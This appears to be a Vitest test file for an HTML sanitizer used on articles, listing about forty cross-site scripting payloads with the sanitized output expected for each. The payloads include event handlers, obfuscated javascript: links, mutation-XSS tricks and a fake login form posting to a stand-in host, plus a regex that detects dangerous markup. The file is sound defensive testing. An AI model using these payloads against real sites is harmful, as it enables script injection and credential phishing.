import { picturesOf, piecesOf } from '@yunshu/contract/article/markup'
import { expect, test } from 'vitest'
import { cleanRichText } from './richText.ts'

test('what an editor writes is kept, and what other editors write for the same becomes it', () => {
  const written =
    '<h2>第一条</h2><p>运费<strong>当日</strong>支付，见<a href="https://example.com/a">全文</a></p><ul><li><p>一</p></li></ul><p><img src="/files/12/a.png" alt="图"></p><hr>'
  expect(cleanRichText(written)).toBe(written.replace('alt="图">', 'alt="图" />').replace('<hr>', '<hr />'))
  expect(cleanRichText('<div><b>粗</b><i>斜</i><h1>题</h1></div>')).toBe('<p><strong>粗</strong><em>斜</em><h2>题</h2></p>')
  expect(cleanRichText(cleanRichText(written))).toBe(cleanRichText(written))
})

/* Articles that want to be more than text: each with what may be left of it. */
const hostile: readonly (readonly [html: string, left: string])[] = [
  ['<script>alert(1)</script>x', 'x'],
  ['<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>x', 'x'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img src="/files/1/a.png" onerror="alert(1)" style="position:fixed" class="x" id="login">', '<img src="/files/1/a.png" />'],
  ['<img src="https://evil.invalid/pixel.png">', ''],
  ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', ''],
  ['<img src="/api/session/logout">', ''],
  ['<img src="/files/../api/x">', ''],
  ['<p onclick="alert(1)" onmouseover=alert(1)>x</p>', '<p>x</p>'],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="java&#x0A;script:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="\u0001javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
  ['<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>'],
  ['<a href="//evil.invalid">x</a>', '<a>x</a>'],
  ['<a href="https://example.com" target="_top" ping="https://evil.invalid" download>x</a>', '<a href="https://example.com">x</a>'],
  ['<iframe src="https://evil.invalid"></iframe>x', 'x'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>x', 'x'],
  ['<object data="x.swf"><embed src="x"></object>x', 'x'],
  ['<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:x"><text>y</text></a></svg>x', 'x'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>x', 'x'],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ''],
  ['<style>@import "https://evil.invalid/x.css"; body{display:none}</style>x', 'x'],
  ['<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>', '<p>x</p>'],
  ['<p style="width:expression(alert(1))">x</p>', '<p>x</p>'],
  ['<link rel="stylesheet" href="https://evil.invalid">x', 'x'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.invalid">x', 'x'],
  ['<base href="https://evil.invalid/">x', 'x'],
  ['<form action="https://evil.invalid"><input name="password"><button>登录</button></form>', ''],
  ['<textarea></textarea><script>alert(1)</script>x', 'x'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
  ['<!--<img src="--><img src=x onerror=alert(1)//">x', 'x'],
  ['<![CDATA[<script>alert(1)</script>]]>x', 'x'],
  ['<template><script>alert(1)</script></template>x', 'x'],
  ['<video><source onerror="alert(1)"></video>x', 'x'],
  ['<details open ontoggle=alert(1)>x</details>', 'x'],
  ['<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>']
]

test.each(hostile)('of %j no more than its words is left', (html, left) => {
  expect(cleanRichText(html)).toBe(left)
})

test('no hostile article leaves a mark that runs, loads or shows anything foreign, nor does it when it is cleaned again', () => {
  const all = hostile.map(([html]) => html).join('\n')
  for (const text of [cleanRichText(all), cleanRichText(cleanRichText(all))]) {
    expect(text).not.toMatch(
      /<(script|iframe|svg|math|object|embed|style|link|meta|base|form|input|template)|\son\w+=|style=|class=|id=|javascript:|vbscript:|data:|srcdoc/i
    )
    expect(picturesOf(text).every((src) => src.startsWith('/files/'))).toBe(true)
    expect(JSON.stringify(piecesOf(text))).not.toContain('evil.invalid"}')
  }
})

test('a text that nests without end is cut, and a large one is cleaned soon', () => {
  const deep = cleanRichText(`${'<blockquote>'.repeat(5000)}x${'</blockquote>'.repeat(5000)}`)
  expect(deep.split('<blockquote>').length).toBeLessThanOrEqual(13)
  const began = performance.now()
  cleanRichText('<p onclick="x">文字<b>粗</b></p>'.repeat(5000))
  expect(performance.now() - began).toBeLessThan(5000)
})
